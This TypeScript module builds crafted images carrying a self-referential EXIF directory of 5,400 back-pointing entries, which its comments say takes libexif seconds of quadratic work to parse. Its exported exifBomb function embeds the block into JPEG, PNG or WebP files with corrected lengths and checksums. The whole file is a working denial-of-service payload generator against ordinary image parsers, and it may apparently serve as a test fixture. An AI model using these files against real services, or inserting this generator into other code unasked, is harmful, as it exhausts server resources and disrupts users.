import { crc32 } from "node:zlib";

const entries = 5_400;

/** A TIFF directory of 5,400 entries, each of which points back to the directory: quadratic work for libexif. */
function backPointers(): Buffer {
  const tiff = Buffer.alloc(8 + 2 + entries * 12 + 4);
  tiff.write("II*\0", 0, "latin1");
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(entries, 8);
  for (let entry = 0; entry < entries; entry += 1) {
    const at = 10 + entry * 12;
    tiff.writeUInt16LE(0x8769, at);
    tiff.writeUInt16LE(4, at + 2);
    tiff.writeUInt32LE(1, at + 4);
    tiff.writeUInt32LE(8, at + 8);
  }
  return tiff;
}

/** A photo whose EXIF takes seconds to parse in native code. */
export function exifBomb(photo: Buffer, format: "jpeg" | "png" | "webp"): Buffer {
  if (format === "jpeg") return inJpeg(photo);
  return format === "png" ? inPng(photo) : inWebp(photo);
}

function inJpeg(photo: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from("Exif\0\0", "latin1"), backPointers()]);
  const head = Buffer.from([0xff, 0xe1, (body.length + 2) >> 8, (body.length + 2) & 0xff]);
  return Buffer.concat([photo.subarray(0, 2), head, body, photo.subarray(2)]);
}

/** Behind IHDR, which is 25 bytes after the signature's 8. */
function inPng(photo: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from("eXIf", "latin1"), backPointers()]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(named.length - 4);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(named));
  return Buffer.concat([photo.subarray(0, 33), length, named, check, photo.subarray(33)]);
}

/** With the extended header that says that EXIF follows. */
function inWebp(photo: Buffer): Buffer {
  const chunk = (name: string, body: Buffer) => {
    const head = Buffer.alloc(8);
    head.write(name, 0, "latin1");
    head.writeUInt32LE(body.length, 4);
    return Buffer.concat([head, body, Buffer.alloc(body.length % 2)]);
  };
  const extended = Buffer.alloc(10);
  extended.writeUInt8(8, 0);
  extended.writeUIntLE(299, 4, 3);
  extended.writeUIntLE(199, 7, 3);
  const parts = [chunk("VP8X", extended), photo.subarray(12), chunk("EXIF", backPointers())];
  const whole = Buffer.concat([photo.subarray(0, 12), ...parts]);
  whole.writeUInt32LE(whole.length - 8, 4);
  return whole;
}
